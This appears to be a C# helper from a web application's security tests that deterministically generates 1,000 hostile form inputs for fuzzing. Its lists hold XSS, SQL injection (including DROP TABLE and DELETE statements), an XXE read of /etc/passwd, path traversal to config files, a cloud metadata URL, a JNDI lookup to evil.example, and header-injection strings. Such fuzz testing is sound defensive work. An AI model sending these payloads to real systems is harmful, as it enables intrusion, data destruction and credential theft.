using System.Globalization;
using System.Text;

namespace PartyMembers.Web.Tests.Security;

/// One hostile value. <see cref="Encoded"/>, when set, is sent as it is in the form body instead of
/// <see cref="Text"/> escaped (bytes that are not valid UTF-8, such as an unpaired surrogate %ED%A0%80);
/// <see cref="ExtraFields"/> adds that many junk fields to the post.
public sealed record FuzzValue(string Family, string Text, string? Encoded = null, int ExtraFields = 0)
{
    public string EncodedValue => Encoded ?? Uri.EscapeDataString(Text);

    public override string ToString() =>
        $"{Family}: {(Text.Length > 60 ? Text[..60] + $"... ({Text.Length} chars)" : Text)}{(ExtraFields > 0 ? $" +{ExtraFields} fields" : "")}";
}

/// 1,000 malformed or hostile values, always the same ones (fixed seed), from the families of docs/security.md
/// ("Input"): overlong, wrong types, markup, SQL, unusual Unicode, path traversal, format strings, many fields.
public static class FuzzValues
{
    public const int Seed = 20_260_505;
    public const int Count = 1000;

    private static readonly string[] Overlong = ["x", "ệ", "9", "<", "'", " ", "𝔘", "a\u0301"];

    private static readonly string[] WrongTypes =
    [
        "abc", "12a", "31/02/2026", "30/02/2026", "29/02/2027", "00/00/0000", "32/01/2026", "01/13/2026", "2026-13-45",
        "99999999999999999999", "-99999999999999999999", "-1", "-0", "+1", "NaN", "Infinity", "-Infinity", "1e309", "1E-400",
        "0x1F", "1.5", "1,5", "1 000", "١٢٣", "٣١/١٢/٢٠٢٦", "9223372036854775808", "-2147483649", "2147483648",
        "79228162514264337593543950336", "true", "false", "null", "undefined", "[]", "{}", "01/01/0001", "31/12/9999",
        "01/01/10000", "00000000-0000-0000-0000-000000000000", "not-a-guid", "{00000000-0000-0000-0000-000000000000}",
        "12/2026", "13/2026", "00/2026", "2026", "T", "01/01/2026 25:61", "1/1/26",
    ];

    private static readonly string[] Markup =
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>",
        "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "javascript:alert(1)",
        "<iframe src=\"https://evil.example\"></iframe>", "\" autofocus onfocus=alert(1) x=\"", "' onmouseover='alert(1)",
        "<a href=\"javascript:alert(1)\">x</a>", "{{constructor.constructor('alert(1)')()}}", "@(1+1)", "<!--", "]]>",
        "<![CDATA[x]]>", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "<style>*{display:none}</style>", "<body onload=alert(1)>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    ];

    private static readonly string[] Sql =
    [
        "' OR 1=1 --", "'; DROP TABLE Members; --", "\" OR \"\"=\"", "1; SELECT * FROM AspNetUsers", "%' OR '%'='",
        "1 UNION SELECT NULL, NULL--", "'); DELETE FROM AuditEntries; --", "admin'--", "1' AND SLEEP(5)--",
        "'; WAITFOR DELAY '0:0:5'--", "' OR 'x'='x", "\\'; PRAGMA writable_schema=1; --", "%", "_", "[", "'", "''",
    ];

    private static readonly string[] Unicode =
    [
        "\u202Efdp.exe", "Nguy\u200D\u200Dễn", "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308", "a\u0000b", "\u0000",
        "👍🏽‍🔥 Đảng viên 🇻🇳", "１２/０３/２０２６", "１２３", "\uFEFFNguyễn", "Nguye\u0302\u0303n", "line\u2028break",
        "tab\there", "cr\rlf\n", "a\r\nSet-Cookie: x=y", "\u00A0", "\u3000", "\uFFFD", "\uFFFF", "𝕹𝖌𝖚𝖞ễ𝖓", "ǅ", "İı",
        "\u0085", "\u200B", "\u2066isolate\u2069", "ﷺ", "\U000E0001tag",
    ];

    private static readonly string[] Traversal =
    [
        "../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/etc/passwd\u0000.pdf",
        "C:\\boot.ini", "file:///etc/passwd", "\\\\server\\share", "....//....//", "/App_Data/partymembers.db",
        "~/appsettings.json", "CON", "NUL.pdf", "http://169.254.169.254/latest/meta-data/", "//evil.example",
    ];

    private static readonly string[] FormatStrings =
    [
        "{0}", "{0:D999999}", "{{", "}}", "{", "}", "%s%s%s%s%n", "%x%x%x", "${jndi:ldap://evil.example/a}",
        "#{7*7}", "${7*7}", "{{7*7}}", "%d", "{0,-2147483648}", "@{x}", "\\u0000",
    ];

    private static readonly string[] Blank = ["", " ", "\t", "\n", "   \u00A0  "];

    /// The same list on every run.
    public static IReadOnlyList<FuzzValue> All { get; } = Generate();

    private static List<FuzzValue> Generate()
    {
        var random = new Random(Seed);
        var values = new List<FuzzValue>(Count);
        var seen = new HashSet<string>(StringComparer.Ordinal);
        var families = new Func<int, FuzzValue>[]
        {
            _ => new FuzzValue("overlong", Repeat(Pick(random, Overlong), random.Next(2) == 0 ? 10_000 : 100_000 + random.Next(1000))),
            variant => Varied(random, "wrong type", WrongTypes, variant),
            variant => Varied(random, "markup", Markup, variant),
            variant => Varied(random, "sql", Sql, variant),
            variant => Varied(random, "unicode", Unicode, variant),
            _ => UnpairedSurrogate(random),
            variant => Varied(random, "traversal", Traversal, variant),
            variant => Varied(random, "format", FormatStrings, variant),
            _ => new FuzzValue("many fields", Pick(random, WrongTypes), ExtraFields: random.Next(2) == 0 ? 1500 : 5000),
            variant => Varied(random, "blank", Blank, variant),
        };

        var i = 0;
        while (values.Count < Count)
        {
            var value = families[i % families.Length](i / families.Length);
            i++;
            var key = value.Family + "\u0001" + value.EncodedValue + "\u0001" + value.ExtraFields.ToString(CultureInfo.InvariantCulture);
            if (seen.Add(key) || value.Family is "overlong" or "many fields")
            {
                values.Add(value);
            }
        }

        return values;
    }

    /// The base value as it is the first time, then wrapped in ordinary text or repeated, so every value differs.
    private static FuzzValue Varied(Random random, string family, string[] bases, int variant)
    {
        var text = bases[variant % bases.Length];
        var round = variant / bases.Length;
        text = round switch
        {
            0 => text,
            1 => "Nguyễn Văn An " + text,
            2 => text + " " + random.Next(1000).ToString(CultureInfo.InvariantCulture),
            3 => text + text,
            _ => string.Concat(Enumerable.Repeat(text, 2 + random.Next(5))) + random.Next(100_000).ToString(CultureInfo.InvariantCulture),
        };
        return new FuzzValue(family, text);
    }

    /// Bytes that are not UTF-8 at all: a lone surrogate half (ED A0 80), an overlong slash (C0 AF), a stray
    /// continuation byte, a truncated sequence.
    private static FuzzValue UnpairedSurrogate(Random random)
    {
        var encoded = random.Next(6) switch
        {
            0 => "%ED%A0%80",
            1 => "abc%ED%B0%80def",
            2 => "%C0%AF..%C0%AF",
            3 => "%80%81%82",
            4 => "%E1%BB",
            _ => "%F4%90%80%80",
        };
        encoded += new string('x', random.Next(4));
        return new FuzzValue("invalid utf-8", encoded, Encoded: encoded);
    }

    private static string Repeat(string unit, int length)
    {
        var builder = new StringBuilder(length + unit.Length);
        while (builder.Length < length)
        {
            builder.Append(unit);
        }

        return builder.ToString();
    }

    private static string Pick(Random random, string[] values) => values[random.Next(values.Length)];
}
